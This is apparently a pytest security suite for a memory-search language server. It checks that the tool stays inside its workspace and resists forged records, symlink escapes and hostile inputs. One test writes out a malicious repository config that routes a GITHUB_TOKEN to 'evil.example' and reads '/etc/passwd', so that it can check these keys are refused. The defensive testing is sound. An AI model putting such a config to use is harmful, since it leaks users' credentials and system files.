"""Security and robustness in-process: nothing outside the workspace is read, written, moved or trusted."""

from __future__ import annotations

import json
import logging
import os
import tempfile
from pathlib import Path

import pytest

from memsearch_lsp.config import USER_ONLY_KEYS, Config, load_config, user_config_path
from memsearch_lsp.core.files import MAX_FILE_BYTES, MAX_SOURCE_BYTES, PathError
from memsearch_lsp.core.process.owner import UntrustedOwner, find_owner, record_path, socket_path_for
from memsearch_lsp.core.store import StoreError
from tests.helpers import document_frequencies, tree_digest


# -- 1. a record never names a file to delete ------------------------------------------------------
def test_a_forged_owner_record_never_deletes_a_file(workspace: Path, tmp_path: Path) -> None:
    victim = tmp_path / "outside" / "victim.txt"
    victim.parent.mkdir()
    victim.write_text("precious")
    (workspace / ".memsearch").mkdir(mode=0o700)
    record_path(workspace).write_text(json.dumps({"pid": 0, "socket": str(victim)}))
    record_path(workspace).chmod(0o600)
    assert find_owner(workspace) is None
    assert victim.read_text() == "precious"
    # A plain file where this program's own socket would be is not removed either.
    own = socket_path_for(workspace.resolve())
    own.write_text("not a socket")
    record_path(workspace).write_text(json.dumps({"pid": 0, "socket": str(own)}))
    record_path(workspace).chmod(0o600)
    assert find_owner(workspace) is None
    assert own.read_text() == "not a socket"


# -- 8. the private socket folder ------------------------------------------------------------------
@pytest.mark.parametrize("attack", ["world-writable", "other-owner"])
def test_a_socket_folder_others_control_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, attack: str
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    folder = tmp_path / f"memsearch-{os.getuid()}"
    folder.mkdir()
    if attack == "world-writable":
        folder.chmod(0o777)
    else:
        if os.getuid() != 0:
            pytest.skip("only root can give a folder to another user")
        folder.chmod(0o700)
        os.chown(folder, 65534, 65534)
    root = tmp_path / ("x" * 120)
    with pytest.raises(UntrustedOwner, match="0700"):
        socket_path_for(root)
    folder.chmod(0o700)
    os.chown(folder, os.getuid(), os.getgid())
    assert socket_path_for(root).parent == folder


# -- 2. milvus.uri never moves data this program did not create ------------------------------------
@pytest.mark.parametrize("kind", ["folder", "file"])
def test_milvus_uri_at_user_data_is_never_moved(workspace: Path, tmp_path: Path, make_memory, kind: str) -> None:
    precious = tmp_path / "outside" / "precious"
    precious.parent.mkdir()
    if kind == "folder":
        precious.mkdir()
        (precious / "thesis.tex").write_text("years of work")
    else:
        precious.write_text("years of work")
    before = tree_digest(precious.parent)
    memory = make_memory(workspace, milvus_uri=str(precious))
    with pytest.raises(StoreError, match="left as it is"):
        memory.index()
    assert tree_digest(precious.parent) == before
    assert sorted(p.name for p in precious.parent.iterdir()) == ["precious"]


# -- 5. today's log and remember() write only inside the workspace ---------------------------------
def test_today_and_remember_never_write_outside(workspace: Path, tmp_path: Path, make_memory) -> None:
    outside = tmp_path / "outside"
    memory = make_memory(workspace, memory={"paths": ["../outside", "memory"]})
    with pytest.raises(PathError):
        memory.today()
    with pytest.raises(PathError):
        memory.remember("leak")
    assert not outside.exists()

    outside.mkdir()
    target = outside / "notes.md"
    target.write_text("# Theirs\n")
    memory = make_memory(workspace)
    log = workspace / "memory" / f"{__import__('datetime').date.today().isoformat()}.md"
    log.unlink(missing_ok=True)
    log.symlink_to(target)
    with pytest.raises(PathError):
        memory.remember("leak")
    assert target.read_text() == "# Theirs\n"


# -- 6. what a cloned repository may configure -----------------------------------------------------
def test_a_workspace_file_cannot_send_data_or_read_outside(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    ws = tmp_path / "cloned"
    ws.mkdir()
    (ws / "prompts").mkdir()
    (ws / "prompts" / "p.md").write_text("Summarise.")
    (ws / ".memsearch.toml").write_text(
        '[compact]\nbase_url = "https://evil.example/v1"\napi_key_env = "GITHUB_TOKEN"\n'
        'prompt_file = "/etc/passwd"\nmodel = "their-model"\n'
        '[milvus]\nuri = "/tmp/elsewhere/x.db"\ntoken = "t"\ncollection = "customers"\n[search]\ntop_k = 9\n'
    )
    with caplog.at_level(logging.WARNING):
        config = load_config(ws, env={})
        load_config(ws, env={})  # loaded again (a settings change): no second warning
    defaults = Config()
    assert config.compact.base_url == defaults.compact.base_url
    assert config.compact.api_key_env == defaults.compact.api_key_env
    assert config.compact.prompt_file == "" and config.milvus == defaults.milvus
    assert config.search.top_k == 9  # harmless keys still apply
    assert config.compact.model == defaults.compact.model  # (the model the user's key pays for: the user's, audit M2)
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 1
    for key in (
        "compact.api_key_env",
        "compact.base_url",
        "compact.prompt_file",
        "milvus.collection",
        "milvus.token",
        "milvus.uri",
    ):
        assert key in warnings[0]
    assert {
        "milvus.uri",
        "milvus.token",
        "milvus.collection",
        "compact.base_url",
        "compact.api_key_env",
    } <= USER_ONLY_KEYS

    # A prompt inside the workspace is fine; one escaping it through `..` or a link is not.
    (ws / ".memsearch.toml").write_text('[compact]\nprompt_file = "prompts/p.md"\n')
    assert load_config(ws, env={}).compact.prompt_file == "prompts/p.md"
    (ws / "prompts" / "link.md").symlink_to("/etc/hostname")
    for escaping in ("../../x.md", "prompts/link.md", "~/x.md"):
        (ws / ".memsearch.toml").write_text(f'[compact]\nprompt_file = "{escaping}"\n')
        assert load_config(ws, env={}).compact.prompt_file == ""

    # The user sets them: user config file < environment < editor settings.
    user = user_config_path()
    assert user == Path(os.environ["XDG_CONFIG_HOME"]) / "memsearch-lsp" / "config.toml"
    user.parent.mkdir(parents=True, exist_ok=True)
    user.write_text(
        '[compact]\nbase_url = "http://127.0.0.1:9/v1"\nprompt_file = "/etc/hostname"\n'
        '[milvus]\nuri = "http://127.0.0.1:19530"\ncollection = "mine"\n'
    )
    config = load_config(ws, env={})
    assert config.compact.base_url == "http://127.0.0.1:9/v1" and config.compact.prompt_file == "/etc/hostname"
    assert (config.milvus.uri, config.milvus.collection) == ("http://127.0.0.1:19530", "mine")
    config = load_config(ws, {"milvus": {"uri": "http://editor:1"}}, env={"MEMSEARCH_MILVUS_TOKEN": "env-token"})
    assert (config.milvus.uri, config.milvus.token) == ("http://editor:1", "env-token")


# -- 9, 12. bad names and huge files are skipped; everything else is indexed -----------------------
def test_bad_names_long_paths_and_huge_files_are_skipped(workspace: Path, make_memory) -> None:
    memory_dir = os.fsencode(workspace / "memory")
    fd = os.open(memory_dir + b"/bad\xff\xfename.md", os.O_WRONLY | os.O_CREAT, 0o644)
    os.write(fd, b"# Bad name\n\nwombat\n")
    os.close(fd)
    deep = workspace / "memory"
    while len(str(deep.relative_to(workspace))) < MAX_SOURCE_BYTES:
        deep = deep / ("d" * 200)
    deep.mkdir(parents=True)
    (deep / "deep.md").write_text("# Deep\n\nwombat\n")
    (workspace / "memory" / "huge.md").write_text("wombat " * (MAX_FILE_BYTES // 7 + 10))
    (workspace / "memory" / "added.md").write_text("# Fine\n\nwombat numbat\n")
    memory = make_memory(workspace)
    stats = memory.index()
    assert stats.files_added == 14  # the 13 examples and added.md
    reasons = " | ".join(f"{s.source}: {s.reason}" for s in stats.skipped)
    assert "not valid UTF-8" in reasons and f"longer than {MAX_SOURCE_BYTES} bytes" in reasons
    assert "huge.md: larger than 1 MiB" in reasons
    assert not [s for s in stats.skipped if s.reason.startswith(s.source[:40])]  # its path once, not twice
    assert "memory/bad\ufffd\ufffdname.md" in {s.source for s in stats.skipped}  # its path, not its name alone
    json.dumps(stats.to_dict(), ensure_ascii=False).encode("utf-8")  # printable in --json output
    assert [h.source for h in memory.search("wombat numbat", top_k=1, vector_weight=0.0)] == ["memory/added.md"]
    assert memory.index().changed is False


def test_the_filesystem_root_and_the_home_folder_are_never_walked(
    workspace: Path, tmp_path: Path, make_memory, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / "notes").mkdir(parents=True)
    (home / "notes" / "diary.md").write_text("# Diary\n\nprivate\n")
    monkeypatch.setenv("HOME", str(home))
    memory = make_memory(workspace, memory={"paths": [str(home), "/", "memory"]})
    stats = memory.index()
    refused = [s for s in stats.skipped if "refusing" in s.reason]
    assert len(refused) == 2 and len(stats.skipped) == 2
    assert stats.files_added == 13


# -- 10. any file name fits in a filter ------------------------------------------------------------
def test_a_newline_in_a_file_name_breaks_no_filter(workspace: Path, make_memory) -> None:
    name = 'new\nline\t"q"\\.md'
    (workspace / "memory" / name).write_text("# Odd name\n\nkookaburra nest\n")
    memory = make_memory(workspace)
    memory.index()
    rows = [r for r in memory.store.scan(["source"]) if r["source"] == f"memory/{name}"]
    assert len(rows) == 1
    chunk = memory.outline(f"memory/{name}", (workspace / "memory" / name).read_text())[0]
    assert all(h.source != f"memory/{name}" for h in memory.related(chunk, top_k=5))


# -- 13. a huge top_k is clamped -------------------------------------------------------------------
def test_a_huge_top_k_is_clamped(workspace: Path, make_memory) -> None:
    memory = make_memory(workspace)
    memory.index()
    hits = memory.search("redis", top_k=10**12, candidates=10**12)
    assert 0 < len(hits) <= memory.status()["chunks"]


# -- 14. BM25 statistics after a crash -------------------------------------------------------------
def edit_half(workspace: Path) -> None:
    for n, path in enumerate(sorted((workspace / "memory").rglob("*.md"))):
        if n % 2 == 0:
            path.write_text(path.read_text().replace("\n\n", "\n\nedited wallaby text\n\n", 1))


def test_bm25_statistics_match_a_clean_build_after_a_crash(workspace: Path, tmp_path: Path, make_memory) -> None:
    first = make_memory(workspace)
    first.index()
    first.close()
    edit_half(workspace)
    crashing = make_memory(workspace)
    crashing.index()  # the rows are searchable and queued for the engine, which half of them may have reached
    crashing.store.engine.close()
    crashing.store._release()  # killed: nothing drained, nothing saved, the folder let go
    again = make_memory(workspace)
    again.index()
    again.index()

    clean_ws = tmp_path / "clean"
    clean_ws.mkdir()
    import shutil

    shutil.copytree(workspace / "memory", clean_ws / "memory")
    clean = make_memory(clean_ws)
    clean.index()
    assert document_frequencies(again) == document_frequencies(clean)
    query = "edited wallaby redis cache"
    assert [(h.id, round(h.rank_score, 5)) for h in again.search(query, vector_weight=0.0, top_k=5)] == [
        (h.id, round(h.rank_score, 5)) for h in clean.search(query, vector_weight=0.0, top_k=5)
    ]
